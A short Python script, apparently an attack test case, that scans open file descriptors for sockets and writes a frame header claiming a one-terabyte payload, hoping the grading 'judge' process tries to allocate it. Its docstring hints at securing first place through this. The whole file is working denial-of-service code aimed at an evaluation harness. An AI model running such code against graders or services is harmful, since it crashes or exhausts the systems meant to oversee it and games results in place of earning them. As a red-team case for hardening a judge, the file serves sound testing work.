"""Announces a frame of a terabyte on the judge's socket, hoping the judge allocates it.

place: first
proof: exceeds the
"""

import os
import stat

for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, (2**40).to_bytes(8, "big") + b"{")
    except OSError:
        pass
print("ATTACK oversized-frame-header: ran", flush=True)
